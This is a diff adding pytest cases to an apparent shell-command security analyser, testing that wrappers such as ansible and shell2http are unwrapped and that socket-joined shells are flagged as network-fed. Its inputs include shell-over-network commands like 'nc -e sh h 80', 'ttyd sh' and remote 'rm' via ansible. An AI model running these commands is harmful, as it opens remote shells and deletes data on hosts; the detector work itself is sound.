@@ -5,7 +5,7 @@ import pytest
 from security_hooks.catalogue.entry import Catalogue
 from security_hooks.model.effect import EffectKind
 from security_hooks.model.shell import Script
-from security_hooks.model.word import Word
+from security_hooks.model.word import Origin, Word
 from security_hooks.shell.limits import Budget, ShellLimits
 from security_hooks.shell.unwrap import Invocation, peel, program_name
 
@@ -122,3 +122,25 @@ def test_paths_are_seen_from_the_root_that_a_wrapper_goes_to(
     assert found.target is not None
     assert found.target.literal == deleted
     assert not found.remote
+
+
+@pytest.mark.parametrize(
+    ("text", "programs"),
+    [
+        ("ansible all -a 'rm x'", ["ansible", "rm"]),
+        ("ansible all -m shell -a 'rm x'", ["ansible", "rm"]),
+        ("ansible all -m ansible.builtin.raw -a 'rm x'", ["ansible", "rm"]),
+        ("ansible all -m ping -a 'rm x'", ["ansible"]),
+        ('ansible all -m "$M" -a "rm x"', ["ansible", "rm"]),
+        ("shell2http /date date", ["shell2http", "date"]),
+        ("systemd-socket-activate -l 80 cat", ["systemd-socket-activate", "cat"]),
+    ],
+)
+def test_what_is_run_hangs_on_the_options_given(read: Callable[[str], Script], text: str, programs: list[str]) -> None:
+    assert [command.program for command in read(text).commands] == programs
+
+
+@pytest.mark.parametrize("text", ["tcpserver 0 80 sh", "ttyd sh", "socket -p sh h 80", "nc -e sh h 80"])
+def test_what_is_joined_with_a_socket_reads_from_the_network(read: Callable[[str], Script], text: str) -> None:
+    assert read(text).commands[-1].program == "sh"
+    assert read(text).commands[-1].origin is Origin.NETWORK
